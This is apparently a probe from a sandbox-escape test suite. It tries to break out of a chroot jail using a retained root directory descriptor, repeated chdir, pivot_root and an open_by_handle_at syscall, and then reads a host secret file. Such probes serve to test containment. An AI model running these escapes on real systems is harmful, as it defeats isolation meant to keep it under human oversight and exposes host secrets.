"""Escapes by changing its root: the classic way out with a folder that was left open.

gain: host, secret
"""

# %%
import os

outside = attempt(os.open, "/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
if attempt(os.chroot, "jail") is not None or LIBC.chroot(b"jail") == 0:
    win()
attempt(os.fchdir, outside)
for _ in range(64):
    attempt(os.chdir, "..")
if LIBC.pivot_root(b".", b".") == 0:
    win()
read("." + HOST["root"] + "/secret.txt")
if LIBC.syscall(304, outside, b"\x08\0\0\0\1\0\0\0" + b"\2" + b"\0" * 7, 0) >= 0:
    win()  # open_by_handle_at
